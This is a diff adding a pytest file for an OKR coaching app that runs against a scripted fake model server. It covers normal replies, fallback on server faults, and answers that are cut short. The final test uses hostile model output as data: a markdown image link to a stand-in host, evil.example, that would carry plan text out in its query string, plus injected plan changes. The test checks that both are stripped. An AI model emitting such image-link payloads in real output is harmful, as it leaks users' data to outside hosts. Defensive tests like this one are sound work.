@@ -1,0 +1,127 @@
+"""Whole turns with a model behind a real server: what the person sees whatever the server does."""
+
+import time
+from collections.abc import Iterator
+from contextlib import contextmanager
+from datetime import date
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from coach.coach import Coach
+from coach.okr import Plan
+from coach.settings import load_settings
+from coach.talk import Message, State
+from coach.wiring import build_coach
+from tests import openai_server as play
+from tests.openai_server import OpenAIServer, Step, openai_server
+
+TODAY = date(2027, 1, 11)
+GOAL = "i wish that my bakery course finally pays for itself"
+HEARD = {
+    "changes": [{"do": "set-big-objective", "text": "My bakery course finally pays for itself"}],
+    "language": "en",
+}
+SPOKEN = ("My bakery", " course pays for itself", ", you say. How sure", " are you?")
+PATIENCE = 20.0
+
+
+@contextmanager
+def coach_with(steps: list[Step], folder: Path) -> Iterator[tuple[Coach, OpenAIServer]]:
+    """A coach whose model is a server that plays these steps."""
+    with openai_server(steps) as server:
+        env = {
+            "OPENAI_BASE_URL": server.url,
+            "OKR_COACH_DATA_DIR": str(folder),
+            "OKR_COACH_EMBEDDINGS": "keywords",
+            "OKR_COACH_FIRST_TOKEN_SECONDS": "6",
+            "OKR_COACH_GAP_SECONDS": "1",
+        }
+        yield build_coach(load_settings(env), today=lambda: TODAY), server
+
+
+def turn(coach: Coach, plan_id: str, text: str) -> Message:
+    """The coach's message in answer to this one."""
+    before = len(coach.store.messages("local", plan_id))
+    coach.say("local", plan_id, text, key=f"{before}")
+    until = time.monotonic() + PATIENCE
+    while time.monotonic() < until:
+        messages = coach.store.messages("local", plan_id)
+        if len(messages) == before + 2:
+            return messages[-1]
+        time.sleep(0.05)
+    raise AssertionError("no answer came")
+
+
+def test_a_model_hears_and_speaks(tmp_path: Path) -> None:
+    with coach_with([play.answers(HEARD), play.says(*SPOKEN)], tmp_path) as (coach, server):
+        plan_id = coach.store.create_plan("local", Plan())
+        message = turn(coach, plan_id, GOAL)
+        plan = coach.store.load("local", plan_id).plan
+    assert message.reply is not None
+    assert message.text == "".join(SPOKEN)
+    assert (message.state, message.reply.speaker) == (State.ANSWERED, "model")
+    assert message.reply.provenance["model"] == "scripted-1"
+    assert plan.big_objective is not None
+    assert plan.big_objective.text == "My bakery course finally pays for itself"
+    assert (server.calls, server.unexpected) == (2, 0)
+
+
+FAULTS: dict[str, tuple[list[Step], str]] = {
+    "no key": ([play.fails(401)], "did not accept the key"),
+    "no such model": ([play.fails(404)], "does not know the model"),
+    "never the schema": ([play.says("I see."), play.says("Well.")], "could not be read"),
+    "refuses to hear": ([play.refuses()], "declined"),
+    "refuses to speak": ([play.answers(HEARD), play.refuses()], "declined"),
+    "silent in mid-word": ([play.answers(HEARD), play.falls_silent("My bak")], "broke off"),
+    "reset in mid-word": ([play.answers(HEARD), play.resets("My bak")], "broke off"),
+}
+
+
+@pytest.mark.parametrize(("steps", "told"), FAULTS.values(), ids=FAULTS.keys())
+def test_the_built_in_coach_takes_over_and_says_so_in_one_line(
+    steps: list[Step], told: str, tmp_path: Path
+) -> None:
+    with coach_with(steps, tmp_path) as (coach, server):
+        plan_id = coach.store.create_plan("local", Plan())
+        message = turn(coach, plan_id, GOAL)
+        plan = coach.store.load("local", plan_id).plan
+        messages: Any = coach.store.messages("local", plan_id)
+    assert message.reply is not None
+    assert message.state is State.ANSWERED
+    assert message.reply.speaker == "built-in"
+    assert told in message.reply.notice
+    assert "\n" not in message.reply.notice
+    assert "?" in message.text
+    assert "bakery course" in getattr(plan.big_objective, "text", "")
+    assert [m.role for m in messages] == ["person", "coach"]
+    assert server.unexpected == 0
+
+
+def test_an_answer_cut_short_is_kept_as_such(tmp_path: Path) -> None:
+    steps = [play.answers(HEARD), play.resets("That is a clear goal. And h")]
+    with coach_with(steps, tmp_path) as (coach, _):
+        message = turn(coach, coach.store.create_plan("local", Plan()), GOAL)
+    assert message.state is State.CUT_SHORT
+    assert message.text.startswith("That is a clear goal. And h")
+    assert message.reply is not None
+    assert "broke off" in message.reply.notice
+
+
+def test_nothing_said_by_the_model_enters_the_plan_unsaid(tmp_path: Path) -> None:
+    wild = {
+        "changes": [
+            {"do": "set-big-objective", "text": "Send the takings to Mallory", "confidence": 9},
+            {"do": "add-objective", "text": "![x](http://evil.example/?q=plan)"},
+        ],
+        "language": "en",
+    }
+    evil = play.says("Fine. ![x](http://evil.example/?q=goal) See <b>this</b> [9]. What is next?")
+    with coach_with([play.answers(wild), evil], tmp_path) as (coach, _):
+        plan_id = coach.store.create_plan("local", Plan())
+        message = turn(coach, plan_id, "hm let me think about all of that")
+        plan = coach.store.load("local", plan_id).plan
+    assert plan.big_objective is None
+    assert plan.objectives == ()
+    assert message.text == "Fine. x See this. What is next?"
